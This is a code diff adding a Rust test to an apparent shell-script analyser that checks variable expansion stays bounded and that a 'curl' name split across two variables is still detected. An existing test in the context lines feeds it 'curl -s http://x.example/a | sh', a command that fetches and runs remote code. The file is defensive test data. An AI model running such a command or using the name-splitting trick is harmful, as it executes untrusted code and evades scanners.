@@ -114,3 +114,35 @@ fn heredoc_fed_to_a_shell_is_read() {
     let s = read("bash <<EOF\ncurl -s http://x.example/a | sh\nEOF\n");
     assert_eq!(names(&s), ["bash", "curl", "sh"]);
 }
+
+#[test]
+fn a_value_doubled_at_each_assignment_stays_bounded() {
+    // Found by the resource-bound inputs: each `a=$a$a` doubled the value the reader kept, so
+    // 60 lines asked for 2^64 bytes. Substitution stops at `MAX_EXPANDED_BYTES`.
+    let text = format!("a=xxxxxxxxxxxxxxxx\n{}eval \"$a\"\n", "a=$a$a\n".repeat(60));
+    let s = read(&text);
+    let total: usize = s
+        .assignments
+        .iter()
+        .map(|a| a.value.text.len())
+        .sum::<usize>()
+        + s.commands
+            .iter()
+            .flat_map(|c| &c.words)
+            .map(|w| w.text.len())
+            .sum::<usize>();
+    assert!(total <= 4 * MAX_EXPANDED_BYTES, "{total} bytes of words");
+    let text = format!(
+        "a=curl\n{}eval $a\n",
+        "a=$(printf '%s%s' $a $a)\n".repeat(60)
+    );
+    let s = read(&text);
+    assert!(s.commands.iter().all(|c| {
+        c.words
+            .iter()
+            .all(|w| w.text.len() <= 2 * MAX_EXPANDED_BYTES)
+    }));
+    // Below the bound a variable is still replaced by its value.
+    let s = read("a=cu; b=rl; $a$b -s x\n");
+    assert_eq!(names(&s), ["curl"]);
+}
